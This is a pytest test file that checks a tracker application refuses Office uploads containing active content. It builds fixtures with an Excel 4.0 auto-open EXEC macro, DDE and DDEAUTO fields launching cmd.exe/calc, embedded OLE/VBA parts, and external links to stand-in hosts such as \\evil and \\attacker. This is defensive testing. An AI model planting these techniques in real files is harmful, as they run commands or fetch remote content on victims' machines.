"""Office files that run or fetch something when opened are refused by content, as documents and as imports
(issue 26: an .xlsx with an Excel 4.0 macro sheet and one with an embedded OLE object were accepted). Each file is
built here: a real workbook or a minimal Word package with one hostile part added."""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.imports.helpers import table_counts
from tests.imports.helpers import upload as upload_import
from tests.monitoring.test_documents import upload as upload_document
from tests.factories import DEMO_TODAY
from tracker.demo import seed_demo
from tracker.extensions import db
from tracker.models.monitoring import DocumentVersion
from tracker.ooxml import active_content

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def workbook(extra: dict[str, bytes]) -> bytes:
    """A real .xlsx (it imports as it is) with ``extra`` parts added or replaced."""
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["Date", "Reference", "Supplier", "Net"])
    book.active.append(["01/05/2025", "INV1", "Acme", "10.00"])
    book.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in extra:
                dst.writestr(info.filename, src.read(info))
        for name, data in extra.items():
            dst.writestr(name, data)
    return out.getvalue()


def word(body: str, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal .docx whose body is ``body`` (WordprocessingML inside <w:body>)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                                           'content-types"/>')
        zf.writestr("word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>")
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return out.getvalue()


def rels(*relationships: str) -> bytes:
    return (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'{"".join(relationships)}</Relationships>').encode()


MACRO_SHEET = workbook({
    "xl/macrosheets/sheet2.xml": b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
                                 b'<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData>'
                                 b'</xm:macrosheet>',
    "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                       b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                       b'<sheet name="Sheet" sheetId="1" r:id="rId1"/></sheets><definedNames>'
                       b'<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>',
})
OLE_XLSX = workbook({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504})
VBA_XLSX = workbook({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504})
DDE_LINK = workbook({"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
                     b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})
EXTERNAL_WORKBOOK = workbook({
    "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
    "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
        f'<Relationship Id="rId1" Type="{RELS}/externalLinkPath" Target="file:///\\\\evil\\share\\book.xlsx" '
        'TargetMode="External"/>'),
})
# A field code split over runs, as Word writes it: "DDE" + "AUTO c:\\windows\\system32\\cmd.exe ..."
DDEAUTO_DOCX = word('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE'
                    '</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
                    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
DDE_SIMPLE_DOCX = word('<w:p><w:fldSimple w:instr=" DDE Excel &quot;C:\\\\x.xls&quot; R1C1"/></w:p>')
OLE_DOCX = word("<w:p/>", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})
REMOTE_TEMPLATE_DOCX = word("<w:p/>", {"word/_rels/settings.xml.rels": rels(
    f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="\\\\attacker\\share\\t.dotm" '
    'TargetMode="External"/>')})

REFUSED = {
    "macro-sheet.xlsx": (MACRO_SHEET, "Excel 4.0 macro sheet"),
    "ole-object.xlsx": (OLE_XLSX, "embedded object"),
    "vba-project.xlsx": (VBA_XLSX, "macros"),
    "dde-link.xlsx": (DDE_LINK, "links to other files"),
    "external-link.xlsx": (EXTERNAL_WORKBOOK, "links to other files"),
    "ddeauto.docx": (DDEAUTO_DOCX, "DDE field"),
    "dde-fldsimple.docx": (DDE_SIMPLE_DOCX, "DDE field"),
    "ole-object.docx": (OLE_DOCX, "embedded object"),
    "remote-template.docx": (REMOTE_TEMPLATE_DOCX, "links to other files"),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_each_hostile_office_file_is_found_by_content(name):
    data, reason = REFUSED[name]
    assert reason in active_content(zipfile.ZipFile(io.BytesIO(data)))


@pytest.mark.parametrize("part", ["word/embeddings/package.bin", "ppt/embeddings/oleObject1.bin"])
def test_embedded_objects_in_word_and_powerpoint_parts_are_found(part):
    assert "embedded object" in active_content(zipfile.ZipFile(io.BytesIO(word("<w:p/>", {part: b"x"}))))


def test_plain_files_and_web_hyperlinks_pass():
    """A hyperlink to a web page is an external relationship too, and harmless: it is kept."""
    linked = word('<w:p><w:hyperlink r:id="rId1"/></w:p>', {"word/_rels/document.xml.rels": rels(
        f'<Relationship Id="rId1" Type="{RELS}/hyperlink" Target="https://www.gov.uk/" TargetMode="External"/>')})
    other_field = word('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText>HYPERLINK "https://x.org"'
                       "</w:instrText></w:r></w:p>")
    for data in (workbook({}), linked, other_field):
        assert active_content(zipfile.ZipFile(io.BytesIO(data))) is None


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_each_is_refused_as_a_document_and_nothing_is_kept(app, client, auth, make, name):
    data, reason = REFUSED[name]
    commission = make.commission()
    db.session.commit()
    auth.login("manager")
    response = upload_document(client, commission, data, name)
    assert response.status_code == 422
    assert reason in response.text and "has been refused because" in response.text
    db.session.expire_all()
    assert db.session.scalar(db.select(db.func.count()).select_from(DocumentVersion)) == 0
    folder = Path(app.config["DATA_DIR"]) / "documents"
    assert not folder.exists() or not [p for p in folder.rglob("*") if p.is_file()]


@pytest.mark.parametrize("name", sorted(n for n in REFUSED if n.endswith(".xlsx")))
def test_each_workbook_is_refused_as_an_import_and_nothing_is_kept(app, client, auth, name):
    data, reason = REFUSED[name]
    seed_demo(DEMO_TODAY)
    db.session.commit()
    auth.login("finance")
    before = table_counts()
    response = upload_import(client, name, data=data)
    assert response.status_code == 422
    assert reason in response.text and "has been refused because" in response.text
    db.session.expire_all()
    assert table_counts() == before
